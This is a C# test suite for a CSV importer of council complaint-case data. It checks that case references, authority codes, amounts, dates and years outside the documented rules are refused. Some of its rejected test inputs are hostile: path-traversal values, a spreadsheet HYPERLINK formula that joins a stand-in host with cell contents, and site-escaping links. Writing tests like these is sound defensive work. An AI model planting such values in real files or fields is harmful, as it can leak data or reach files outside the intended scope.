using Upheld.Import;
using Upheld.Storage;
using Upheld.Tests.Storage;

namespace Upheld.Tests.Import;

/// <summary>Case references, authority codes, amounts, dates and years outside the documented rules are refused like any bad value.</summary>
public abstract class IdentifiersAndBoundsTests(DatabaseProvider provider) : IDisposable
{
    private readonly Lazy<TestDatabase> _store = new(() => TestDatabase.Create(provider));
    private readonly ImportFolder _folder = new();

    public void Dispose()
    {
        if (_store.IsValueCreated) _store.Value.Dispose();
        _folder.Dispose();
    }

    private ImportResult Import() => new Importer(_store.Value.Database).Import(_folder.Path, replace: false);

    private const string CaseRefRule = "is not a case reference: 1 to 40 letters, digits, spaces, dots, hyphens or underscores, beginning and ending with a letter or digit";

    [SkippableTheory]
    [InlineData("RT/SLASH/001")]
    [InlineData("..")]
    [InlineData(".hidden")]
    [InlineData("ends.")]
    [InlineData("back\\slash")]
    [InlineData("what?")]
    [InlineData("+RT-CSV-010")]
    [InlineData("\"=HYPERLINK(\"\"http://x\"\"&A1,\"\"open\"\")\"")]
    [InlineData("A1234567890123456789012345678901234567890")] // 41 characters
    public void A_case_reference_outside_the_pattern_is_refused_naming_file_line_and_column(string caseRef)
    {
        _folder.With("decisions.csv", "case_ref,authority_code,decision_date,outcome", caseRef + ",E10000003,2019-05-01,upheld");

        var result = Import();

        Assert.False(result.Succeeded);
        var problem = Assert.Single(result.Problems.Listed);
        Assert.StartsWith("decisions.csv line 2, column case_ref: '", problem);
        Assert.EndsWith(CaseRefRule, problem);
    }

    [SkippableTheory]
    [InlineData("20 000 001")]
    [InlineData("E06000017-001")]
    [InlineData("99-999-999")]
    [InlineData("a_b.c")]
    [InlineData("A123456789012345678901234567890123456789")] // 40 characters
    public void Case_references_of_the_real_and_demonstration_kinds_are_accepted(string caseRef)
    {
        _folder.With("decisions.csv", "case_ref,authority_code,decision_date,outcome", caseRef + ",E10000003,2019-05-01,upheld");

        var result = Import();

        Assert.True(result.Succeeded, string.Join("\n", result.Problems.Lines()));
    }

    [SkippableFact]
    public void Every_case_file_checks_the_case_reference()
    {
        _folder.With("received.csv", "case_ref,authority_code,received_date", "../r,E10000003,2019-05-01")
            .With("recommendations.csv", "case_ref,authority_code,kind", "../m,E10000003,personal")
            .With("compliance.csv", "case_ref,authority_code,recorded_date,outcome", "../c,E10000003,2019-05-01,complied_on_time")
            .With("public_reports.csv", "case_ref,authority_code,issued_date", "../p,E10000003,2019-05-01");

        var problems = Import().Problems.Listed;

        Assert.Equal(4, problems.Count(p => p.Contains("column case_ref: '../", StringComparison.Ordinal) && p.EndsWith(CaseRefRule, StringComparison.Ordinal)));
    }

    [SkippableTheory]
    [InlineData("../x")]
    [InlineData("E1/2")]
    [InlineData(".")]
    public void A_new_authority_code_outside_the_pattern_is_refused(string code)
    {
        _folder.With("authorities.csv", "code,name,type", $"{code},Somewhere,District");

        var problem = Assert.Single(Import().Problems.Listed);

        Assert.StartsWith($"authorities.csv line 2, column code: '{code}' is not an authority code", problem);
    }

    [SkippableTheory]
    [InlineData("!!!")]
    [InlineData("中文")]
    public void A_council_name_that_gives_no_address_is_refused(string name)
    {
        _folder.With("authorities.csv", "code,name", $"E06000017,{name}");

        var problem = Assert.Single(Import().Problems.Listed);

        Assert.Equal($"authorities.csv line 2, column name: '{name}' has no letter a-z or digit, and the council's address is made of them", problem);
    }

    // 79228162514264337593543950335 is decimal.MaxValue: multiplying it by 100 to make pence overflowed.
    [SkippableTheory]
    [InlineData("79228162514264337593543950335")]
    [InlineData("10000000.01")]
    [InlineData("92233720368547758.07")]
    public void An_amount_past_the_largest_is_refused_not_a_crash(string amount)
    {
        _folder.With("recommendations.csv", "case_ref,authority_code,kind,text,amount_gbp", $"R1,E10000003,personal,pay,{amount}");

        var problem = Assert.Single(Import().Problems.Listed);

        Assert.Equal($"recommendations.csv line 2, column amount_gbp: '{amount}' is more than the largest amount, 10000000 pounds", problem);
    }

    [SkippableFact]
    public void The_largest_amount_is_accepted()
    {
        _folder.With("recommendations.csv", "case_ref,authority_code,kind,text,amount_gbp", "R1,E10000003,personal,pay,10000000.00");

        var result = Import();

        Assert.True(result.Succeeded, string.Join("\n", result.Problems.Lines()));
    }

    [SkippableTheory]
    [InlineData("9999-12-31")]
    [InlineData("2050-04-01")]
    [InlineData("2000-03-31")]
    public void A_date_outside_the_accepted_years_is_refused(string date)
    {
        _folder.With("decisions.csv", "case_ref,authority_code,decision_date,outcome", $"D1,E10000003,{date},upheld");

        var problem = Assert.Single(Import().Problems.Listed);

        Assert.Equal($"decisions.csv line 2, column decision_date: '{date}' is outside the dates accepted, 2000-04-01 to 2050-03-31", problem);
    }

    [SkippableTheory]
    [InlineData("9999-00")]
    [InlineData("2050-51")]
    [InlineData("1999-00")]
    public void A_year_outside_the_accepted_years_is_refused(string year)
    {
        _folder.With("commentary.csv", "authority_code,year,position,text", $"E10000003,{year},1,Hello");

        var problem = Assert.Single(Import().Problems.Listed);

        Assert.Equal($"commentary.csv line 2, column year: '{year}' is not a financial year written like 2019-20, from 2000-01 to 2049-50", problem);
    }

    [SkippableFact]
    public void Commentary_linking_out_of_the_site_is_refused_at_import()
    {
        _folder.With("commentary.csv", "authority_code,year,position,text", "E10000003,2019-20,1,See [one](/../api) and [two](/\\host).");

        var problems = Import().Problems.Listed;

        Assert.Equal(
        [
            "commentary.csv line 2, column text: links to '/../api', which is neither a web address (https://…) nor a page of this site (/councils/…)",
            "commentary.csv line 2, column text: links to '/\\host', which is neither a web address (https://…) nor a page of this site (/councils/…)",
        ], problems);
    }
}

public sealed class SqliteIdentifiersAndBoundsTests() : IdentifiersAndBoundsTests(DatabaseProvider.Sqlite);

public sealed class PostgresIdentifiersAndBoundsTests() : IdentifiersAndBoundsTests(DatabaseProvider.PostgreSql);
